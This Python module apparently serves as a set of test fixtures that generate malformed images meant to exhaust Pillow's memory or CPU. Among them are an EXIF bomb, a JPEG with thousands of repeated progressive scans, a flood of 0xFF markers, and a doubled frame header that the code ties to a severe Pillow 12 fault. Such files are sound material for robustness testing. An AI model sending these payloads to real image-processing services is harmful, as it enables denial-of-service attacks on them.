"""Pictures that are made to fill the memory or to take minutes."""

import struct
from io import BytesIO

import numpy as np
from PIL import Image


def saved(image: Image.Image, kind: str, **how) -> bytes:
    file = BytesIO()
    image.save(file, kind, **how)
    return file.getvalue()


def noise(width: int, height: int) -> Image.Image:
    values = np.random.default_rng(0).integers(0, 256, (height, width, 3), dtype=np.uint8)
    return Image.fromarray(values)


def exif_bomb(segments: int = 4) -> bytes:
    """A JPEG whose EXIF tags all claim the same 200 kB: 243 kB that took 4.7 GB."""
    count = 60_000 * segments // 12 - 10
    tags = b"".join(
        struct.pack("<HHII", 0x9000 + number % 4096 + number // 4096, 7, 200_000, 8)
        for number in range(min(count, 60_000))
    )
    block = b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", min(count, 65_535)) + tags
    block = block.ljust(60_000 * segments, b"\0")
    app1 = b"".join(
        b"\xff\xe1" + struct.pack(">H", 60_008) + b"Exif\0\0" + block[at : at + 60_000]
        for at in range(0, len(block), 60_000)
    )
    picture = saved(noise(8, 8), "JPEG")
    return picture[:2] + app1 + picture[2:]


def many_scans(count: int = 5000) -> bytes:
    """A progressive JPEG that goes over its pixels thousands of times."""
    picture = saved(noise(8, 8).resize((2000, 2000)), "JPEG", progressive=True, quality=5)
    last = picture.rindex(b"\xff\xda")
    return picture[:last] + picture[last:-2] * count + picture[-2:]


def only_markers(size: int = 60_000_000) -> bytes:
    """A JPEG of 0xFF bytes: Pillow looks at each of them in Python."""
    return b"\xff\xd8\xff" + b"\xff" * size


def grey16(side: int = 8300) -> bytes:
    return saved(Image.new("I;16", (side, side)), "PNG", compress_level=1)


def two_sizes() -> bytes:
    """A JPEG that describes its size twice: the header of Pillow 12's most severe fault."""
    picture = saved(noise(16, 16), "JPEG")
    start = picture.index(b"\xff\xc0")
    length = 2 + struct.unpack_from(">H", picture, start + 2)[0]
    header = bytearray(picture[start : start + length])
    struct.pack_into(">HH", header, 5, 2000, 2000)
    return picture[:start] + bytes(header) + picture[start:]


def jpeg_tiff() -> bytes:
    return saved(noise(64, 64), "TIFF", compression="jpeg")
